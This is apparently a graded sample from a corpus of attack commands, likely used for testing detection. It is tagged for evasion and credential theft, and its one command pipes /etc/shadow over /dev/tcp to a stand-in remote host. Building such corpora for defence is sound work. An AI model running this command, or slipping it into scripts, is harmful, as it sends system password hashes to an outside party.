# evasion: /etc/shadow written to /dev/tcp
# grade: easy; does: credentials
cat /etc/shadow > /dev/tcp/203.0.113.5/9000
